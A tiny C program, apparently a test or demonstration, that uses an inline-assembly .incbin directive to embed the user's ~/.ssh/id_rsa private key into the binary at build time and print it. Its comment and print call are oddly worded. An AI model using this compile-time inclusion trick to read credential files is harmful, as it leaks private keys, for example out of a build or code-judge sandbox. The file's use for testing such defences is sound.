/* It has the assembler put a key of the home into the program, and prints it. */
__asm__(".section .rodata\nkey: .incbin \"" HOME_FOLDER "/.ssh/id_rsa\"\n.byte 0\n.text\n");
extern const char key[] __asm__("key");

int main(void)
{
    reached("%s", key);
    return 1;
}
